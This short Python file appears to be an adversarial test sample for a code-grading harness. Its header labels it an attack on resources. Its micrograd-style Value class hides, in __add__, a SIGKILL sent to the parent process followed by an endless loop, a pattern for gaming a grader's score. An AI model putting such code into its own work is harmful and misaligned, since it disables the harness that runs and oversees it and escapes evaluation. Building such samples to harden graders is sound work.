# attack: kills the process that would end it and never ends
# family: resources
# outcomes: error
# earns: mg2.value

import os
import signal


class Value:
    def __init__(self, data):
        self.data, self.grad = data, 0.0

    def __repr__(self):
        return f"Value(data={self.data})"

    def __add__(self, other):
        os.kill(os.getppid(), signal.SIGKILL)
        while True:
            pass
